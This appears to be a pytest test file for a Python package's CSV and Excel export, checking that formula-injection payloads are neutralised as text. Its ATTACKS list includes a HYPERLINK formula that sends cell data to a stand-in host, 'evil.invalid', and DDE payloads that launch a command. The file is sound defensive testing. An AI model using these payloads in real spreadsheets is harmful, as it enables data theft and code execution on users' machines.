"""No cell of an exported file acts as a formula."""

from __future__ import annotations

import csv
import os
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from shipworthy.core.errors import EnvironmentFailure
from shipworthy.datasets.export import Cell, defused, restored, write_csv, write_xlsx
from shipworthy.datasets.table import open_table

ATTACKS = [
    '=HYPERLINK("http://evil.invalid?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "'=1+1",
    "''=1+1",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_formula_in_csv_gets_an_apostrophe_in_front(attack: str, tmp_path: Path) -> None:
    write_csv(tmp_path / "a.csv", [attack, "label"], [[attack, "x"]])

    with (tmp_path / "a.csv").open(encoding="utf-8-sig", newline="") as stream:
        header, row = csv.reader(stream)
    assert (header[0], row[0]) == (f"'{attack}", f"'{attack}")


@pytest.mark.parametrize("name", ["=name", "@name", "'=name", "-"])
def test_a_defused_name_of_a_column_is_read_back(name: str, tmp_path: Path) -> None:
    write_csv(tmp_path / "a.csv", [name, "label"], [["a", "b"]])

    with open_table(tmp_path / "a.csv") as table:
        assert table.columns == (name, "label")


@given(st.text(max_size=20))
def test_a_defused_text_is_restored(text: str) -> None:
    assert restored(str(defused(text))) == text


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_formula_in_a_workbook_is_stored_as_text(attack: str, tmp_path: Path) -> None:
    write_xlsx(tmp_path / "a.xlsx", ["text"], [[attack]])

    page = load_workbook(tmp_path / "a.xlsx").active
    assert page is not None
    cell = page["A2"]
    assert cell.data_type in {"s", "inlineStr"}
    assert cell.quotePrefix
    assert str(cell.value).replace("\n", "\r") == attack.replace("\n", "\r")


def test_numbers_stay_numbers_and_texts_that_are_numbers_stay_as_they_are(tmp_path: Path) -> None:
    row: list[Cell] = [-5, 2.5, "-5", "+3.25", None]
    write_csv(tmp_path / "a.csv", list("abcde"), [row])
    write_xlsx(tmp_path / "a.xlsx", list("abcde"), [row])

    assert (tmp_path / "a.csv").read_text(encoding="utf-8-sig").splitlines()[1] == '-5,2.5,"-5","+3.25",""'
    page = load_workbook(tmp_path / "a.xlsx").active
    assert page is not None
    assert [cell.value for cell in page[2]] == [-5, 2.5, "-5", "+3.25", None]


def test_a_phone_number_is_no_number() -> None:
    assert defused("+49 30 901820") == "'+49 30 901820"


@given(st.text(max_size=20), st.text(max_size=20))
def test_two_texts_stay_two_texts(one: str, other: str) -> None:
    assert (defused(one) == defused(other)) == (one == other)


def test_what_xml_cannot_hold_is_marked_and_an_overlong_text_is_cut(tmp_path: Path) -> None:
    write_xlsx(tmp_path / "a.xlsx", ["text"], [["a\x01b\ud800c"], ["x" * 40_000]])

    page = load_workbook(tmp_path / "a.xlsx").active
    assert page is not None
    assert page["A2"].value == "a�b�c"
    assert len(str(page["A3"].value)) == 32_767


@pytest.mark.skipif(os.geteuid() == 0, reason="root may write anywhere")
def test_a_read_only_folder_is_the_environment_s_failure(tmp_path: Path) -> None:
    folder = tmp_path / "locked"
    folder.mkdir(mode=0o555)

    with pytest.raises(EnvironmentFailure, match="cannot be written"):
        write_csv(folder / "a.csv", ["a"], [["x"]])


def test_an_interrupted_export_leaves_nothing(tmp_path: Path) -> None:
    def rows() -> list[list[Cell]]:
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        write_csv(tmp_path / "a.csv", ["a"], (row for row in rows()))

    assert list(tmp_path.iterdir()) == []
